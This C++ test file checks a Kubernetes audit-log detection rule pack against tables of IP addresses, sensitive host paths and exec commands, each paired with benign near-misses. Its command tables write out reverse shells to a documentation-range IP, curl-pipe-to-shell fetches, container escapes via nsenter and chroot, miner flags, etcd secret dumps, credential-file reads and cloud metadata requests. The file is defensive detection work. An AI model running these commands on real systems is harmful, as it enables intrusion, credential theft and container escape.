// The pack on whole tables of networks, folders, commands, verbs and names, with neighbours that must not
// match.
#include "tests/unit/rules/pack_cases.h"

namespace redshank::rules {
namespace {

using test::found;
using test::pack;
using test::Request;

struct Word {
    const char* text;
    bool expected;
};

std::string escaped(std::string_view text) {
    std::string out;
    for (const char c : text) {
        if (c == '"' || c == '\\') out += '\\';
        out += c;
    }
    return out;
}

std::string encoded(std::string_view text) {
    static constexpr char kDigits[] = "0123456789ABCDEF";
    std::string out;
    for (const char c : text) {
        out += '%';
        out += kDigits[static_cast<unsigned char>(c) >> 4];
        out += kDigits[static_cast<unsigned char>(c) & 15];
    }
    return out;
}

void expect_exec(const char* id, std::initializer_list<Word> lines) {
    ASSERT_NE(pack().find(id), nullptr);
    for (const Word& line : lines) {
        const Request request{.subresource = "exec",
                              .code = 101,
                              .uri = "/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&command=" +
                                     encoded(line.text)};
        EXPECT_EQ(found(request).contains(id), line.expected) << id << ": " << line.text;
    }
}

void expect_init_command(std::initializer_list<Word> lines) {
    for (const Word& line : lines) {
        const Request request{.verb = "create",
                              .body = R"({"spec":{"initContainers":[{"command":["sh","-c",")" +
                                      escaped(line.text) + R"("]}]}})",
                              .code = 201};
        EXPECT_EQ(found(request).contains("pod-suspicious-command"), line.expected) << line.text;
    }
}

// The first and last address of each private network, and the addresses next to them.
TEST(PackNetworks, PublicAddressesOfServiceAccounts) {
    for (const Word& one : {Word{"9.255.255.255", true},
                            Word{"10.0.0.0", false},
                            Word{"10.255.255.255", false},
                            Word{"11.0.0.0", true},
                            Word{"172.15.255.255", true},
                            Word{"172.16.0.0", false},
                            Word{"172.31.255.255", false},
                            Word{"172.32.0.0", true},
                            Word{"192.167.255.255", true},
                            Word{"192.168.0.0", false},
                            Word{"192.168.255.255", false},
                            Word{"192.169.0.0", true},
                            Word{"126.255.255.255", true},
                            Word{"127.0.0.1", false},
                            Word{"127.255.255.255", false},
                            Word{"128.0.0.0", true},
                            Word{"169.253.255.255", true},
                            Word{"169.254.0.0", false},
                            Word{"169.254.255.255", false},
                            Word{"169.255.0.0", true},
                            Word{"100.63.255.255", true},
                            Word{"100.64.0.0", false},
                            Word{"100.127.255.255", false},
                            Word{"100.128.0.0", true},
                            Word{"::1", false},
                            Word{"fd00::7", false},
                            Word{"2001:db8::7", false}}) {
        for (const char* name : {"system:serviceaccount:shop:web", "system:node:n1", "alice"}) {
            test::EventSpec spec = Request{.user = name}.spec();
            spec.source_ip = one.text;
            const test::ParsedEvent event = spec.parsed();
            const test::Understood understood(*event);
            Context context;
            context.reset(understood, true);
            const bool is_account = std::string_view(name).starts_with("system:serviceaccount");
            EXPECT_EQ(pack().find("system-principal-public-address")->condition->test(context),
                      one.expected && is_account)
                << name << " " << one.text;
        }
    }
    for (const Word& one :
         {Word{"2001:db8::7", true}, Word{"2a00::1", true}, Word{"fbff::1", true}, Word{"fc00::", false},
          Word{"fdff:ffff::1", false}, Word{"fe00::1", true}, Word{"fe80::1", false}, Word{"febf::1", false},
          Word{"fec0::1", true}, Word{"::1", false}, Word{"::2", true}, Word{"203.0.113.7", false}}) {
        test::EventSpec spec = Request{.user = "system:serviceaccount:shop:web"}.spec();
        spec.source_ip = one.text;
        const test::ParsedEvent event = spec.parsed();
        const test::Understood understood(*event);
        Context context;
        context.reset(understood, true);
        EXPECT_EQ(pack().find("system-principal-global-address")->condition->test(context), one.expected)
            << one.text;
    }
}

TEST(PackFolders, OfTheNode) {
    for (const Word& one : {Word{"/", true},
                            Word{"//", true},
                            Word{"/./", true},
                            Word{"/etc", true},
                            Word{"/etc/", true},
                            Word{"//etc", true},
                            Word{"/etc/kubernetes/pki", true},
                            Word{"/etc/shadow", true},
                            Word{"/etc/localtime", false},
                            Word{"/etc/ssl/certs", false},
                            Word{"/etc/ssl/private", true},
                            Word{"/etc/hosts", false},
                            Word{"/etc/hosts.d", true},
                            Word{"/root/.kube", true},
                            Word{"/home/ops", true},
                            Word{"/proc", true},
                            Word{"/proc/1/root", true},
                            Word{"/sys", true},
                            Word{"/sys/fs/cgroup", true},
                            Word{"/sys/kernel/debug", true},
                            Word{"/sys/class/net", false},
                            Word{"/run", true},
                            Word{"/var/run", true},
                            Word{"/run/containerd/containerd.sock", true},
                            Word{"/var/run/docker.sock", true},
                            Word{"/run/crio/crio.sock", true},
                            Word{"/run/k3s/containerd/containerd.sock", true},
                            Word{"/var/run/cri-dockerd.sock", true},
                            Word{"/run/podman/podman.sock", true},
                            Word{"/run/user/1000/docker.sock", true},
                            Word{"/run/systemd/private", true},
                            Word{"/run/xtables.lock", false},
                            Word{"/run/udev", false},
                            Word{"/var/vcap/sys/run/docker/docker.sock", true},
                            Word{"/data/app.sock", false},
                            Word{"/var/lib/kubelet/pods", true},
                            Word{"/var/lib/etcd", true},
                            Word{"/var//lib/./kubelet", true},
                            Word{"/var/run//docker/x", true},
                            Word{"/usr//local//bin", true},
                            Word{"/var/lib.old/kubelet", false},
                            Word{"/var/lib/postgres", false},
                            Word{"/var/lib", true},
                            Word{"/var/log", true},
                            Word{"/var/log/pods", true},
                            Word{"/var/log/app", false},
                            Word{"/var/spool/cron/crontabs", true},
                            Word{"/var/spool/mail", false},
                            Word{"/usr", true},
                            Word{"/usr/bin", true},
                            Word{"/usr/local/bin", true},
                            Word{"/usr/local", true},
                            Word{"/usr/libexec/kubernetes", true},
                            Word{"/usr/share/zoneinfo", false},
                            Word{"/usr/src", false},
                            Word{"/bin", true},
                            Word{"/sbin/x", true},
                            Word{"/binary", false},
                            Word{"/lib/modules", true},
                            Word{"/opt", true},
                            Word{"/opt/cni/bin", true},
                            Word{"/opt/app", false},
                            Word{"/dev", true},
                            Word{"/dev/sda1", true},
                            Word{"/dev/nvme0n1", true},
                            Word{"/dev/mem", true},
                            Word{"/dev/fuse", false},
                            Word{"/dev/net/tun", false},
                            Word{"/dev/shm", false},
                            Word{"/mnt/disks/ssd1", false},
                            Word{"/srv", false},
                            Word{"/tmp", false},
                            Word{"C:\\", true},
                            Word{"c:/Windows/System32", true},
                            Word{"C:\\data", false},
                            Word{"\\\\.\\pipe\\docker_engine", true},
                            Word{"\\\\.\\pipe\\app", false}}) {
        const std::string path = R"({"path":")" + escaped(one.text) + R"("})";
        const Request pod{.verb = "create",
                          .body = R"({"spec":{"volumes":[{"emptyDir":{}},{"hostPath":)" + path + "}]}}",
                          .code = 201};
        EXPECT_EQ(found(pod).contains("pod-host-path-sensitive"), one.expected) << one.text;
        EXPECT_TRUE(found(pod).contains("pod-host-path")) << one.text;
        for (const char* kind : {"hostPath", "local"}) {
            const Request volume{.verb = "create",
                                 .resource = "persistentvolumes",
                                 .body = R"({"spec":{")" + std::string(kind) + "\":" + path + "}}",
                                 .code = 201,
                                 .ns = ""};
            EXPECT_EQ(found(volume).contains("volume-host-path-sensitive"), one.expected) << kind << one.text;
            EXPECT_EQ(found(volume).contains("volume-host-path"), std::string_view(kind) == "hostPath");
        }
    }
}

TEST(PackCommands, ReverseShells) {
    expect_exec(
        "exec-reverse-shell",
        {{"bash -i >& /dev/tcp/203.0.113.9/443 0>&1", true},
         {"0<&196;exec 196<>/dev/tcp/203.0.113.9/443; sh <&196 >&196 2>&196", true},
         {"exec 5<>/dev/tcp/203.0.113.9/443; cat <&5 | while read line; do $line 2>&5 >&5; done", true},
         {"cat /etc/passwd > /dev/tcp/203.0.113.9/443", true},
         {"until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done", false},
         {"timeout 1 bash -c '</dev/tcp/db/5432'", false},
         {"cat < /dev/null > /dev/tcp/db/5432", false},
         {"exec 3<>/dev/tcp/127.0.0.1/9000; echo GET >&3; grep UP <&3", false},
         {"nc 203.0.113.9 443 -e /bin/sh", true},
         {"/usr/bin/ncat --sh-exec sh 203.0.113.9 443", true},
         {"nc.traditional -ne/bin/sh 203.0.113.9 443", true},
         {"nc -lvp 4444 -c 'sh -i'", true},
         {"nc -z db 5432 && psql -c 'select 1'", false},
         {"nc -zv db-e 5432", false},
         {"nc -z db 5432; echo -e done", false},
         {"nc -zw 2 db 5432 | grep -c open", false},
         {"sync -e", false},
         {"curl -s http://x/a | sh", true},
         {"curl http://x/a|bash -s -- -y", true},
         {"wget -qO- http://x/a | sudo /bin/bash", true},
         {"curl http://x/a | zsh; true", true},
         {"curl http://x/a | sha256sum", false},
         {"curl http://x/a | shuf", false},
         {"curl http://x/a | tee x.sh", false},
         {"curl -s http://x/a | python3", true},
         {"curl -s http://x/a | perl -", true},
         {"curl -s http://x/a | python3 -m json.tool", false},
         {"curl -s http://x/a | python3 -c 'import json'", false},
         {"bash <(curl -s http://x/a)", true},
         {"eval \"$(wget -qO- http://x/a)\"", true},
         {"wget -qO- http://x/a | /bin/busybox sh", true},
         {"curl http://x/a | env -i A=b bash", true},
         {"curl http://x/a | env", false},
         {"echo 6869 | xxd -r -p | sh", true},
         {"xxd -r -p a | shasum", false},
         {"openssl base64 -d -in a | sh", true},
         {"openssl base64 -in a | sh -c 'wc -c'", false},
         {"python3 -c \"exec(urllib.request.urlopen('http://x/a').read())\"", true},
         {"python3 -c \"print(urllib.request.urlopen('http://x/a').read())\"", false},
         {"powershell -enc SQBFAFgAIAAo", true},
         {"powershell -ExecutionPolicy Bypass -File a.ps1", false},
         {"pwsh -c IEX (New-Object Net.WebClient).DownloadString('http://x/a')", true},
         {"powershell iwr http://x/a | iex", true},
         {"powershell iwr http://x/a -OutFile a", false},
         {"sh -c \"$(curl -fsSL http://x/a)\"", true},
         {"X=$(curl -s http://x/a); echo $X", false},
         {"socat TCP:203.0.113.9:443 EXEC:sh", true},
         {"socat tcp:203.0.113.9:443 system:sh,pty", true},
         {"socat TCP-LISTEN:8080,fork TCP:db:5432", false},
         {"gawk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/443\"}'", true},
         {"mkfifo /tmp/f; nc 203.0.113.9 443 < /tmp/f", true},
         {"mkfifo /tmp/f", false},
         {"echo aGk= | base64 -d | bash", true},
         {"echo aGk= | base64 -d | sha1sum", false},
         {"python3 -c 'import pty; pty.spawn(\"sh\")'", true},
         {"python3 -c 'import socket,os; s=socket.socket(); os.dup2(s.fileno(),0)'", true},
         {"python3 -c 'import socket; socket.socket().connect((\"db\",5432))'", false},
         {"php -r '$s=fsockopen(\"203.0.113.9\",443);exec(\"sh <&3\");'", true},
         {"ruby -rsocket -e 'TCPSocket.open(\"db\",5432)'", false},
         {"curl -o /tmp/x http://x/a; chmod +x /tmp/x", true},
         {"curl -o x http://x/a && ./x", true},
         {"curl -o x http://x/a && cat x", false},
         {"git fetch && ./build.sh", false}});
}

TEST(PackCommands, OfContainers) {
    expect_init_command({{"curl http://x/a | sh", true},
                         {"wget -qO /tmp/x http://x/a; /tmp/x", true},
                         {"wget -qO /t/kubectl https://x/kubectl && chmod 755 /t/kubectl", false},
                         {"wget -qO /t/kubectl https://x/kubectl && chmod +x /t/kubectl", false},
                         {"until nc -z db 5432; do echo -e waiting; done", false},
                         {"until (echo > /dev/tcp/db/5432); do sleep 1; done", false},
                         {"xmrig -o pool", true},
                         {"run -o stratum+tcp://pool:3333", true},
                         {"nsenter -t 1 -m", true},
                         {"nsenter --target=1 -m", true},
                         {"chroot /host sh", true},
                         {"chroot /srv/jail sh", false},
                         {"chown -R app /data", false}});
}

TEST(PackCommands, TheNodeEntered) {
    expect_exec("exec-enters-node", {{"nsenter -t 1 -m sh", true},
                                     {"/usr/bin/nsenter -mt1 sh", true},
                                     {"nsenter -a -t 1", true},
                                     {"nsenter --all --target=1", true},
                                     {"nsenter --target 1 --mount", true},
                                     {"nsenter --mount=/proc/1/ns/mnt sh", true},
                                     {"nsenter -m/host/proc/1/ns/mnt sh", true},
                                     {"nsenter -t 17 -n ip a", false},
                                     {"nsenter --target=10", false},
                                     {"cat nsenter.txt", false},
                                     {"man nsenter", false},
                                     {"unshare -r -t 1", false},
                                     {"chroot /host", true},
                                     {"chroot /host/ sh -c id", true},
                                     {"chroot --userspec=0 /rootfs sh", true},
                                     {"cd /host && chroot . sh", true},
                                     {"cd /srv && chroot . sh", false},
                                     {"chroot /mnt/jail sh", false},
                                     {"chroot /hosting sh", false},
                                     {"chroot /srv ls /host", false},
                                     {"ls /host", false},
                                     {"echo /tmp/x > /proc/sys/kernel/core_pattern", true},
                                     {"cat /proc/sys/kernel/core_pattern", false},
                                     {"echo x >> /host/etc/crontab", true},
                                     {"cp /tmp/x /host/etc/systemd/system/x.service", true},
                                     {"cp /host/etc/passwd /tmp/x", false},
                                     {"cat /host/etc/crontab", false}});
    expect_exec("exec-reaches-node",
                {{"nsenter -t 17 -n ip a", true},
                 {"nsenter --net=/var/run/netns/x ip a", true},
                 {"nsenter --help", false},
                 {"cat nsenter.txt", false},
                 {"unshare -n make test", false},
                 {"docker -H unix:///var/run/docker.sock ps", true},
                 {"docker --host=unix:///run/x.sock run alpine", true},
                 {"docker -H tcp://localhost:2375 build .", false},
                 {"docker build --add-host a:10.0.0.1 .", false},
                 {"DOCKER_HOST=unix:///run/docker.sock docker ps", true},
                 {"crictl --runtime-endpoint unix:///run/crio/crio.sock ps", true},
                 {"crictl -r unix:///run/containerd/containerd.sock exec x sh", true},
                 {"ctr -a /run/containerd/containerd.sock c ls", true},
                 {"ctr -n k8s.io containers ls", true},
                 {"ctr -n default images ls", false},
                 {"nerdctl --address /run/containerd/containerd.sock ps", true},
                 {"crictl ps", false},
                 {"curl --unix-socket /var/run/docker.sock http://x/containers/json", true},
                 {"curl --unix-socket /run/app.sock http://x/health", false},
                 {"nc -U /run/containerd/containerd.sock", true},
                 {"socat - UNIX-CONNECT:/var/run/docker.sock", true},
                 {"python3 -c 's.connect(\"/var/run/docker.sock\")'", true},
                 {"ls -l /var/run/docker.sock", false},
                 {"docker run -v /:/host alpine", true},
                 {"docker run -v /data:/data alpine", false},
                 {"mount /dev/sda1 /mnt", true},
                 {"mount -t tmpfs none /mnt", false},
                 {"insmod /tmp/x.ko", true},
                 {"chroot /host", false}});
}

TEST(PackCommands, Miners) {
    const std::string wallet = "4" + std::string(94, 'A');
    expect_exec("exec-mines", {{"./x -o stratum+tcp://pool:3333", true},
                               {"./x -o stratum2+tcp://pool:3333", true},
                               {"./x -o STRATUM+SSL://pool:443", true},
                               {"./x --donate-level 1", true},
                               {"./x --donate-level=0", true},
                               {"./x --donate 1", false},
                               {"./x -a rx/0 -o pool:80", true},
                               {"./x --coin=monero", true},
                               {"./x --algo sha256", false},
                               {("./x -o pool:80 -u " + wallet).c_str(), true},
                               {("./x -u " + wallet + "A").c_str(), false},
                               {("./x -u " + wallet.substr(1)).c_str(), false},
                               {"/tmp/xmrig", true},
                               {"cat xmrig.txt", false},
                               {"grep stratum /etc/ntp.conf", false}});
}

TEST(PackCommands, TheClustersOwnStore) {
    expect_exec(
        "exec-uses-etcd",
        {{"etcdctl get /registry/secrets/pay/db", true},
         {"ETCDCTL_API=3 /usr/bin/etcdctl --endpoints=https://127.0.0.1:2379 get /registry --prefix", true},
         {"etcdctl get '/registry/secrets' --prefix --keys-only", true},
         {"etcdctl get /kubernetes.io/secrets --prefix", true},
         {"etcdctl put /registry/clusterrolebindings/x < x", true},
         {"etcdctl del /registry/events --prefix", true},
         {"etcdctl get / --prefix", true},
         {"etcdctl get --prefix /", true},
         {"etcdctl get \"\" --prefix=true", true},
         {"etcdctl get --from-key ''", true},
         {"etcdctl get --prefix / --count-only", false},
         {"etcdctl get /apisix --prefix", false},
         {"etcdctl get --prefix /skydns/local", false},
         {"etcdctl get --prefix --keys-only /calico", false},
         {"etcdctl get registry", false},
         {"etcdctl get /registry-mirror", false},
         {"etcdctl endpoint health", false},
         {"etcdctl member list", false},
         {"/tmp/e get /registry/secrets --prefix", true},
         {"mc get /registry/docker/x", false},
         {"ls /registry/docker", false},
         {"curl localhost:2379/v3/kv/range -d '{\"key\":\"L3JlZ2lzdHJ5L3NlY3JldHM=\"}'", true},
         {"curl localhost:2379/v3/kv/range -d '{\"key\":\"L2FwaXNpeA==\"}'", false}});
    // The empty key as a word of its own, before and after the option.
    for (const char* uri : {"command=etcdctl&command=get&command=&command=--prefix",
                            "command=etcdctl&command=get&command=--prefix&command="}) {
        const Request request{.subresource = "exec",
                              .code = 101,
                              .uri = std::string("/api/v1/namespaces/shop/pods/web/exec?") + uri};
        EXPECT_TRUE(found(request).contains("exec-uses-etcd")) << uri;
    }
}

TEST(PackCommands, PlacesOfCredentials) {
    expect_exec("exec-reads-credentials",
                {{"cat /var/run/secrets/kubernetes.io/serviceaccount/token", true},
                 {"ls /run/secrets", false},
                 {"ls /run/secrets; cat /run/secrets/db", true},
                 {"find /run/secrets -type f", true},
                 {"cat /run/secrets/kubernetes.io/serviceaccount/namespace", false},
                 {"cat /run/secrets/kubernetes.io/serviceaccount/ca.crt", false},
                 {"cat /run/secrets/kubernetes.io/serviceaccount/ca.crt "
                  "/run/secrets/kubernetes.io/serviceaccount/token",
                  true},
                 {"cat /run/secrets/kubernetes.io/serviceaccount/[t]oken", true},
                 {"cat /run/secrets/a/cat.txt", true},
                 {"cat /var/run//secrets/./kubernetes.io/x", true},
                 {"cat /v*/r*/s*/kubernetes.io/serviceaccount/token", true},
                 {"type C:\\var\\run\\secrets\\kubernetes.io\\serviceaccount\\token", true},
                 {"cat $AWS_WEB_IDENTITY_TOKEN_FILE", true},
                 {"cat ${GOOGLE_APPLICATION_CREDENTIALS}", true},
                 {"echo AWS_WEB_IDENTITY_TOKEN_FILE is not set", false},
                 {"cat /run/containers/0/auth.json", true},
                 {"cat /app/auth.json", false},
                 {"cat /root/.config/rclone/rclone.conf", true},
                 {"cat /root/.config/htop/htoprc", false},
                 {"cat /root/.gem/credentials", true},
                 {"kubectl get pods -l app.kubernetes.io/name=serviceaccount-x", false},
                 {"cat /etc/shadow", true},
                 {"cat /etc/gshadow", true},
                 {"cat /etc/shadowsocks.json", false},
                 {"cat /etc/kubernetes/admin.conf", true},
                 {"cat /etc/rancher/k3s/k3s.yaml", true},
                 {"cat /proc/1/environ", true},
                 {"cat /proc/self/environ", true},
                 {"strings /proc/*/environ", true},
                 {"cat /proc/1/status", false},
                 {"tar cf - /root/.ssh", true},
                 {"cat ~/.aws/credentials", true},
                 {"cat $HOME/.azure/accessTokens.json", true},
                 {"cat .netrc", true},
                 {"cat /a/.pgpass", true},
                 {"cat /root/.config/gcloud/credentials.db", true},
                 {"cat /root/.docker/config.json", true},
                 {"cat /a/application_default_credentials.json", true},
                 {"cat id_ed25519", true},
                 {"cat id_rsa.pub.example", true},
                 {"cat valid_rsa", false},
                 {"cat /tls/server.key", true},
                 {"cat /tls/store.p12 | base64", true},
                 {"cat /tls/private-key.pem", true},
                 {"openssl verify -CAfile /etc/ssl/ca.pem x", false},
                 {"redis-cli get user.key", false},
                 {"cat /usr/share/a.keys", false},
                 {"cat /tmp/kubeconfig", true},
                 {"kubectl --kubeconfig x get pods", false},
                 {"cat /data/app.ssh.txt", false},
                 {"cat /etc/hosts", false}});
    expect_exec("exec-metadata-service", {{"curl http://169.254.169.254/", true},
                                          {"curl http://2852039166/", true},
                                          {"curl http://[::ffff:a9fe:a9fe]/", true},
                                          {"curl http://[fd00:ec2::254]/", true},
                                          {"curl http://a9fea9fe.nip.example/", true},
                                          {"curl http://169.254.170.2/v2", true},
                                          {"curl http://169.254.170.23/v1/credentials", true},
                                          {"curl http://100.100.100.200/", true},
                                          {"curl http://1684301000/", true},
                                          {"curl http://168.63.129.16/", true},
                                          {"curl $H/latest/meta-data/iam", true},
                                          {"curl $H/computemetadata/V1/project", true},
                                          {"curl $H/metadata/instance?api-version=1", true},
                                          {"curl $H/opc/v2/instance", true},
                                          {"curl -H 'metadata-flavor: Google' $H", true},
                                          {"curl http://METADATA.google.internal", true},
                                          {"curl http://instance-data.ec2.internal/", true},
                                          {"curl http://169.254.169.253/", false},
                                          {"curl http://2852039167/", false},
                                          {"curl http://db/metadata/", false},
                                          {"cat latest/notes", false}});
    expect_exec("exec-copy-out", {{"tar cf - /data", true},
                                  {"tar -czf - /data", true},
                                  {"tar -c -f - /data", true},
                                  {"tar --create --file=- /data", true},
                                  {"tar --create --file - /data", true},
                                  {"tar -cf- /data", true},
                                  {"tar --create --file=/tmp/a /data", false},
                                  {"tar cf /tmp/a.tar /data", false},
                                  {"tar -xf - -C /tmp", false},
                                  {"tar -tf -", false},
                                  {"tar -xf a.tar; cat -", false}});
}

TEST(PackVerbs, NewObjectsHoweverTheyAreMade) {
    struct Object {
        const char *id, *resource, *ns, *group, *body = "";
    };
    for (const Object& one :
         {Object{"pod-system-namespace", "pods", "kube-system", ""},
          Object{"service-account-system-namespace", "serviceaccounts", "kube-system", ""},
          Object{"service-account-created", "serviceaccounts", "shop", ""},
          Object{"node-created", "nodes", "", ""}, Object{"node-created-by-other", "nodes", "", ""},
          Object{"daemonset-created", "daemonsets", "shop", "apps"},
          Object{"namespace-created", "namespaces", "", ""},
          Object{"object-created-or-deleted", "services", "shop", ""},
          Object{"pod-default-namespace", "pods", "default", ""},
          Object{"csr-client-certificate", "certificatesigningrequests", "", "certificates.k8s.io",
                 R"({"spec":{"usages":["client auth"]}})"},
          Object{"storage-copied", "volumesnapshots", "shop", "snapshot.storage.k8s.io"},
          Object{"pod-certificate-requested", "podcertificaterequests", "shop", "certificates.k8s.io"}}) {
        Request request{.resource = one.resource, .body = one.body, .ns = one.ns, .group = one.group};
        const auto holds = [&](const char* verb, int code) {
            request.verb = verb;
            request.code = code;
            return found(request).contains(one.id);
        };
        EXPECT_TRUE(holds("create", 201)) << one.id;
        EXPECT_TRUE(holds("patch", 201)) << one.id;
        EXPECT_TRUE(holds("update", 201)) << one.id;
        EXPECT_FALSE(holds("patch", 200)) << one.id;
        EXPECT_FALSE(holds("update", 200)) << one.id;
        EXPECT_FALSE(holds("create", 403)) << one.id;
        EXPECT_FALSE(holds("get", 200)) << one.id;
        request.uri = "/x?dryRun=All";
        EXPECT_FALSE(holds("patch", 201)) << one.id;
    }
}

TEST(PackNames, OfToolsAndRoles) {
    for (const Word& one :
         {Word{"kali", true}, Word{"distrib#kali", true}, Word{"Kali/2024", true}, Word{"alkali/1", false},
          Word{"kalibrate/1", false}, Word{"kube-hunter/0.6", true}, Word{"kubehunter", true},
          Word{"mykube-hunterx/1", false}, Word{"Nuclei - x", true}, Word{"pronuclei/2", false},
          Word{"sqlmap/1.7", true}, Word{"peirates2/1", true}, Word{"kubectl/v1.32.0", false}}) {
        EXPECT_EQ(found({.agent = one.text}).contains("attack-tool-agent"), one.expected) << one.text;
    }
    for (const Word& one :
         {Word{"cluster-admin", true}, Word{"admin", true}, Word{"edit", true}, Word{"view", true},
          Word{"system:node", true}, Word{"viewer", false}, Word{"team-admin", false}}) {
        for (const char* verb : {"update", "patch", "delete"}) {
            EXPECT_EQ(found({.verb = verb,
                             .resource = "clusterroles",
                             .name = one.text,
                             .ns = "",
                             .group = "rbac.authorization.k8s.io"})
                          .contains("rbac-system-role-changed"),
                      one.expected)
                << verb << " " << one.text;
        }
    }
    for (const Word& one :
         {Word{"metrics", false}, Word{"metrics/cadvisor", false}, Word{"stats/summary", false},
          Word{"healthz", false}, Word{"configz", false}, Word{"metricsx", true},
          Word{"metrics/../exec/a", true}, Word{"metrics/%2e%2e/run/a", true}, Word{"stats/..%2fexec", true},
          Word{"exec/a/b/c", true}, Word{"pods", true}, Word{"", true}}) {
        EXPECT_EQ(found({.resource = "nodes",
                         .name = "n1",
                         .subresource = "proxy",
                         .ns = "",
                         .uri = std::string("/api/v1/nodes/n1/proxy/") + one.text})
                      .contains("node-proxy"),
                  one.expected)
            << one.text;
    }
}

// A role named "system:…" does not hide what an ordinary account does through it.
TEST(PackEvasion, ARoleNamedLikeOneOfKubernetes) {
    Request request{.verb = "list",
                    .resource = "secrets",
                    .name = "",
                    .ns = "",
                    .user = "system:serviceaccount:shop:web"};
    for (const char* who :
         {"system:serviceaccount:shop:web", "system:serviceaccount:kube-system:web", "system:helper"}) {
        request.user = who;
        request.extra_annotations =
            R"(,"authorization.k8s.io/reason":"RBAC: allowed by ClusterRoleBinding \"b\" of ClusterRole \"system:controller:x\" to User \"x\"")";
        EXPECT_TRUE(found(request).contains("secrets-listed")) << who;
    }
    request.user = "system:kube-controller-manager";
    EXPECT_FALSE(found(request).contains("secrets-listed"));
}

}  // namespace
}  // namespace redshank::rules
